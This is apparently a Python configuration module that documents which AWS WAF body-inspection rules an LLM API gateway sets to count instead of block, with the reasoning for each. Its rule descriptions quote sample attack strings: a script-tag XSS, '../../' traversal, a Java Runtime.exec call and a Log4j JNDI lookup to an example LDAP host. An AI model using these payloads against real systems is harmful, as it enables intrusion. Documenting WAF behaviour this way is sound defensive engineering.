"""The AWS managed WAF rules that inspect request bodies, and what the edge does with each: every one counts
(logged, labelled, in CloudWatch metrics) instead of blocking.

Why none blocks: the bodies the ALB forwards are OpenAI API requests and batch files, i.e. prompts, and a prompt is
free text in a JSON string. A prompt about web security holds ``<script>`` tags, ``../../etc/passwd``, URLs with IPv4
hosts or 169.254.169.254 as a matter of course, and a blocked one gets the WAF's bare 403 before the gateway, not an
OpenAI error. None of these bodies is rendered in a browser, opened as a path, fetched as a URL or deserialised by
Java behind the edge: the OpenAI server parses JSON and hands text to the model. The edge validates bodies itself:
the gateway's allow-list of routes (404 for anything else), its body limit derived from ``serving.maxInputLen``
(413), the server's JSON schema (400). Scoping the rules down to paths other than the API's would protect nothing:
every other path the ALB forwards is a 404 at the gateway.

Rule names and what each inspects: AWS WAF developer guide, "Baseline rule groups" (Core rule set
``AWSManagedRulesCommonRuleSet``; Known bad inputs ``AWSManagedRulesKnownBadInputsRuleSet``), read from
awsdocs/aws-waf-and-shield-advanced-developer-guide doc_source/aws-managed-rule-groups-baseline.md; each BODY rule
"only inspects the request body up the body size limit for the web ACL. The limit is 8 KB for regional web ACLs".
Pinned in tests/catalog/test_waf_body_rules.py.
"""

from __future__ import annotations

from typing import Final

COMMON_RULE_SET: Final = "AWSManagedRulesCommonRuleSet"
KNOWN_BAD_INPUTS: Final = "AWSManagedRulesKnownBadInputsRuleSet"

BODY_RULES: Final[dict[str, dict[str, str]]] = {
    COMMON_RULE_SET: {
        "SizeRestrictions_BODY": '"Inspects for request bodies that are over 8 KB (8,192 bytes)": a prompt of a few '
        "thousand tokens; the gateway's own limit (413) follows serving.maxInputLen",
        "CrossSiteScripting_BODY": '"Inspects the request body for common cross-site scripting (XSS) patterns" '
        '(<script>alert("hello")</script>): prompts and completions about HTML or JavaScript; no body is rendered',
        "GenericLFI_BODY": '"Local File Inclusion (LFI) exploits in the request body ... path traversal attempts '
        'using techniques like ../../": code and shell prompts; the server opens no path named by a body',
        "GenericRFI_BODY": '"embedding URLs that contain IPv4 addresses ... http://, https://, ftp://, ftps://, and '
        'file://": prompts and batch lines quoting such URLs; the server fetches no URL from a body',
        "EC2MetaDataSSRF_BODY": '"attempts to exfiltrate Amazon EC2 metadata from the request body": any prompt '
        "about cloud security names the metadata address; the server fetches nothing for a body",
    },
    KNOWN_BAD_INPUTS: {
        "JavaDeserializationRCE_BODY": '"patterns indicating Java deserialization Remote Command Execution (RCE) '
        'attempts" ((java.lang.Runtime).getRuntime().exec("whoami")): code prompts; nothing behind the edge runs Java',
        "Log4JRCE_BODY": '"the presence of the Log4j vulnerability" (${jndi:ldap://example.com/}): prompts about '
        "CVE-2021-44228; nothing behind the edge runs Log4j",
    },
}
"""Managed group -> its BODY rules -> why the edge counts it (AWS's description quoted, then the reason)."""


def counted_rules(groups: tuple[str, ...] | list[str]) -> dict[str, tuple[str, ...]]:
    """The body rules of ``groups`` that count instead of blocking, per group (groups without any left out)."""
    return {g: tuple(BODY_RULES[g]) for g in groups if g in BODY_RULES}
